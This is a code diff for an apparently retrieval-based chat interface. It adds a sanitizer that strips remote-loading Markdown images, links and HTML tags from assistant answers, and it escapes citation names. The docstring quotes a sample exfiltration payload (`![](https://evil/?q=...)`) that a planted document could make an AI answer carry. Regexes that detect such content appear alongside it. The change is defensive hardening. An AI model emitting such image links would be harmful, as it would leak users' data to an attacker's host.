@@ -179,7 +179,7 @@ class TurnView:
         if self.evidence is not None:
             out.append(evidence_message(self.evidence))
         if self.answer or self.done:
-            answer = gr.ChatMessage(role="assistant", content=self.shown or self.answer)
+            answer = gr.ChatMessage(role="assistant", content=no_remote_content(self.shown or self.answer))
             if self.choices:
                 answer.options = self.choices  # type: ignore[assignment]  # OptionDict is a TypedDict of these keys
             out.append(answer)
@@ -280,8 +280,13 @@ def wait_line(event: WaitEvent, reading: str) -> str:
 
 
 def citation_title(citation: Citation) -> str:
+    return f"[{citation.number}] {_where(citation)}"
+
+
+def _where(citation: Citation) -> str:
+    """The cited document's name and its page or section, as stored (escape it where Markdown renders it)."""
     where = citation.chunk.location
-    return f"[{citation.number}] {citation.chunk.source}" + (f" · {where}" if where else "")
+    return citation.chunk.source + (f" · {where}" if where else "")
 
 
 EVIDENCE_LABEL = "📌 From the documents · 文档原文"
@@ -302,8 +307,26 @@ def citation_message(citation: Citation) -> gr.ChatMessage:
     return gr.ChatMessage(
         role="assistant",
         content=highlighted(citation.chunk.text, citation.highlights),
-        metadata={"title": f"📄 {citation_title(citation)}", "status": "done"},
+        metadata={"title": f"📄 [{citation.number}] {escape_text(_where(citation))}", "status": "done"},
     )
+
+
+_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(([^)\s]{0,2000})[^)\n]{0,500}\)")
+_MD_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]\(((?:https?:)?//[^)\s]{0,2000})[^)\n]{0,500}\)", re.IGNORECASE)
+_LOADING_TAG = re.compile(
+    r"<(?=/?\s*(img|image|iframe|frame|video|audio|source|picture|object|embed|link|svg|style|script|meta|base)\b)",
+    re.IGNORECASE,
+)
+
+
+def no_remote_content(text: str) -> str:
+    """Model or user text with nothing in it that would load from another host when shown: Markdown images
+    become their alt text and address, links to other hosts plain text, and tags that load resources
+    (img, iframe, video, svg, style...) are shown as text. A document planted with ``![](https://evil/?q=...)``
+    would otherwise have the browser send the request the moment the answer appears."""
+    text = _MD_IMAGE.sub(lambda m: f"🖼 {m.group(1) or 'image'} ({escape_text(m.group(2))})", text)
+    text = _MD_LINK.sub(lambda m: f"{m.group(1)} ({escape_text(m.group(2))})", text)
+    return _LOADING_TAG.sub("&lt;", text)
 
 
 def escape_text(text: str) -> str:
@@ -343,7 +366,10 @@ def answer_markup(event: AnswerEvent) -> str:
 
 
 def consulted_message(chunks: tuple[RetrievedChunk, ...]) -> gr.ChatMessage:
-    lines = [f"- {c.chunk.source}" + (f" · {c.chunk.location}" if c.chunk.location else "") for c in chunks]
+    lines = [
+        f"- {escape_text(c.chunk.source)}" + (f" · {escape_text(c.chunk.location)}" if c.chunk.location else "")
+        for c in chunks
+    ]
     return gr.ChatMessage(
         role="assistant",
         content="\n".join(lines),
